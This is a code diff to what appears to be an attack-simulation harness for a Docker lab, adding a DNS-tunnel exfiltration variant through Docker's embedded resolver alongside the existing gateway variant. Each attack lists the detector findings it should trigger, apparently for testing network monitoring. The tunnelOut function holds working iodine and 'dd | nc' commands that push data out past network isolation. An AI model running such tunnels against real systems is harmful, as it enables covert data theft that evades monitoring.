@@ -6,7 +6,15 @@ import { mkdirSync, rmSync } from 'node:fs';
 import { join } from 'node:path';
 import { bring, SHOP } from './app.ts';
 import { addProgram } from './images.ts';
-import { startTunnelServer, TUNNEL_ADDRESS, TUNNEL_PASSWORD, TUNNEL_PORT, TUNNEL_ZONE } from './internet.ts';
+import {
+  OTHER_TUNNEL_DOMAIN,
+  OTHER_TUNNEL_ZONE,
+  startTunnelServer,
+  TUNNEL_ADDRESS,
+  TUNNEL_PASSWORD,
+  TUNNEL_PORT,
+  TUNNEL_ZONE,
+} from './internet.ts';
 import type { Lab } from './lab.ts';
 import { type RunResult, waitFor } from './run.ts';
 import { HOST_ADDRESS, INTERNET } from './world.ts';
@@ -17,9 +25,17 @@ export interface Attack {
   readonly title: string;
   /** One or two sentences for the reader of a narration. */
   readonly story: string;
-  /** The findings that an observer owes for it, by analyzer and, where it has several, message. */
-  readonly expect: readonly { readonly analyzer: string; readonly message?: string }[];
+  /** The findings that an observer owes for it, of the database. */
+  readonly expect: readonly ExpectedFinding[];
   run(lab: Lab): Promise<AttackOutcome>;
+}
+
+export interface ExpectedFinding {
+  readonly analyzer: string;
+  /** Where the analyzer has several. */
+  readonly message?: string;
+  /** What its explanation names, where an earlier attack brings the same finding of something else. */
+  readonly about?: string;
 }
 
 export interface AttackOutcome {
@@ -119,26 +135,37 @@ export const dnsTunnel: Attack = {
   story: `iodine speaks only to the host's resolver at the gateway; the resolver passes the questions on to the name
 server of ${TUNNEL_ZONE}, which is the attacker's. No packet of the database ever leaves the internal network.`,
   expect: [{ analyzer: 'dns-tunnel' }, egress('reached-host')],
-  async run(lab) {
-    const servers = await startTunnelServer(lab);
-    const client = ['iodine', '-f', '-r', '-P', TUNNEL_PASSWORD, dataNetwork.gateway, TUNNEL_ZONE];
-    try {
-      await bringIodine(lab);
-      await lab.docker(['exec', '-d', database, 'timeout', '60', ...client]);
-      await waitFor('the tunnel to stand', async () => {
-        const ping = await inDatabase(lab, ['ping', '-c', '1', '-W', '2', TUNNEL_ADDRESS]);
-        return ping.code === 0;
-      });
-      const upload = `dd if=/dev/urandom bs=${TUNNEL_BYTES} count=1 2>/dev/null | nc -w 5 ${TUNNEL_ADDRESS} ${TUNNEL_PORT}`;
-      const answer = await inDatabase(lab, ['timeout', '25', 'sh', '-c', upload]);
-      const received = Number(answer.stdout);
-      return outcome(received > 0, answer, `${received} bytes came out`);
-    } finally {
-      await inDatabase(lab, ['sh', '-c', 'kill $(pidof iodine)']);
-      for (const server of servers) await server.stop('SIGKILL');
-    }
-  },
+  run: (lab) => tunnelOut(lab, TUNNEL_ZONE, dataNetwork.gateway),
 };
+
+export const dnsTunnelEmbedded: Attack = {
+  id: 'dns-tunnel-embedded',
+  title: `the database tunnels ${TUNNEL_BYTES / 1000} kB out through 127.0.0.11, Docker's own resolver`,
+  story: `Every container on a network of its own may ask 127.0.0.11, and the engine asks on from the host: here always,
+since the host's resolv.conf names a loopback address; from engine 28 on with any. No packet of it crosses any bridge.`,
+  expect: [{ analyzer: 'dns-tunnel', about: OTHER_TUNNEL_DOMAIN }],
+  run: (lab) => tunnelOut(lab, OTHER_TUNNEL_ZONE, '127.0.0.11'),
+};
+
+async function tunnelOut(lab: Lab, zone: string, nameserver: string): Promise<AttackOutcome> {
+  const servers = await startTunnelServer(lab, { zone });
+  const client = ['iodine', '-f', '-r', '-P', TUNNEL_PASSWORD, nameserver, zone];
+  try {
+    await bringIodine(lab);
+    await lab.docker(['exec', '-d', database, 'timeout', '60', ...client]);
+    await waitFor('the tunnel to stand', async () => {
+      const ping = await inDatabase(lab, ['ping', '-c', '1', '-W', '2', TUNNEL_ADDRESS]);
+      return ping.code === 0;
+    });
+    const upload = `dd if=/dev/urandom bs=${TUNNEL_BYTES} count=1 2>/dev/null | nc -w 5 ${TUNNEL_ADDRESS} ${TUNNEL_PORT}`;
+    const answer = await inDatabase(lab, ['timeout', '25', 'sh', '-c', upload]);
+    const received = Number(answer.stdout);
+    return outcome(received > 0, answer, `${received} bytes came out`);
+  } finally {
+    await inDatabase(lab, ['sh', '-c', 'kill $(pidof iodine)']);
+    for (const server of servers) await server.stop('SIGKILL');
+  }
+}
 
 export const isolationBroken: Attack = {
   id: 'isolation-broken',
